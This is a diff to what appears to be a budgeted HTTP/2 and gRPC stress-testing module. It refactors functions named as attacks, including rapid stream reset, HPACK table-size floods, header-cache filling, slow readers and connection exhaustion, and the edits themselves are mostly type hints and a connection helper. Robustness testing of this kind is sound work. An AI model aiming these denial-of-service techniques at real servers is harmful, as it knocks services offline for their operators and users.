@@ -397,7 +397,7 @@ class Peer:
                 self._block += payload
             if flags & END_HEADERS:
                 block = self.decoder.decode(bytes(self._block), raw=False)
-                self.answers.setdefault(stream_id, []).extend(block)
+                self.answers.setdefault(stream_id, []).extend((str(k), str(v)) for k, v in block)
 
 
 # ---- attacks ------------------------------------------------------------------------------
@@ -508,7 +508,7 @@ def rapid_reset(addr: str, budget: Budget, streams: int = 500_000) -> Attack:
     cancel = _U32.pack(CANCEL)
     stream_id, opened = 1, 0
     while opened < streams and not budget.spent():
-        batch = []
+        batch: list[bytes] = []
         for _ in range(min(2048, streams - opened)):
             block = blocks[min(stream_id // 2, 1)]
             batch += (
@@ -650,7 +650,7 @@ def unread_answers(addr: str, budget: Budget) -> Attack:
     body = heartbeat_message("attacker-unread")
     calls = 0
     while not budget.spent():
-        batch = []
+        batch: list[bytes] = []
         while len(batch) < 512 and peer.send_window >= len(body):
             stream_id = peer.next_stream
             peer.next_stream += 2
@@ -780,6 +780,20 @@ def answered_headers_flood(addr: str, budget: Budget) -> Attack:
     return _flood(peer, budget, frame(HEADERS, END_HEADERS | END_STREAM, 1, block), "HEADERS")
 
 
+def _one_more(addr: str, attack: Attack) -> Peer | None:
+    """One more connection of the attack that says the preface and waits for
+    nothing; None once the budget is spent or connecting fails (said in its notes)."""
+    if attack.budget.spent():
+        return None
+    try:
+        peer = Peer(addr, attack.budget, handshake=False)
+    except OSError as e:
+        attack.notes = f"connect failed: {e}; "
+        return None
+    attack.peers.append(peer)
+    return peer
+
+
 def table_size_updates(addr: str, budget: Budget, connections: int = 32) -> Attack:
     """(s) `connections` connections, each sending new streams whose header blocks are
     16 KB of HPACK dynamic-table size updates and nothing else: each costs a decoder about
@@ -819,13 +833,7 @@ def budget_fill(addr: str, budget: Budget, connections: int = 1000) -> Attack:
         peer.send_data(stream_id, grpc_message(b"", declared=4 * MB) + bytes(60_000), wait=False)
     partial = frame(DATA, 0, 1, bytes(DEFAULT_FRAME))[:-384]
     opened = 0
-    while opened < connections and not budget.spent():
-        try:
-            peer = Peer(addr, budget, handshake=False)
-        except OSError as e:
-            attack.notes = f"connect failed: {e}; "
-            break
-        attack.peers.append(peer)
+    while opened < connections and (peer := _one_more(addr, attack)) is not None:
         peer.send(
             frame(
                 HEADERS, END_HEADERS, 1, literals(request_headers(peer.authority, method("Quorum")))
@@ -865,7 +873,7 @@ def slow_readers(addr: str, budget: Budget, connections: int = 20, calls: int = 
         peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF, settings=((INITIAL_WINDOW_SIZE, 0),))
         attack.peers.append(peer)
         block = literals(request_headers(peer.authority, method("Heartbeat")))
-        batch = []
+        batch: list[bytes] = []
         for _ in range(calls):
             stream_id = peer.next_stream
             peer.next_stream += 2
@@ -901,14 +909,8 @@ def cache_fill(addr: str, budget: Budget, connections: int = 2000, blocks: int =
     big = literal("x-a", "v" * 4000)
     big = b"\x40" + big[1:]  # the same field, with incremental indexing: into the table
     for _ in range(connections):
-        if budget.spent():
+        if (peer := _one_more(addr, attack)) is None:
             break
-        try:
-            peer = Peer(addr, budget, handshake=False)
-        except OSError as e:
-            attack.notes = f"connect failed: {e}; "
-            break
-        attack.peers.append(peer)
         base = literals(request_headers(peer.authority, method("NoSuchMethod")))
         batch = [frame(HEADERS, END_HEADERS | END_STREAM, 1, base + big)]
         for n in range(blocks):
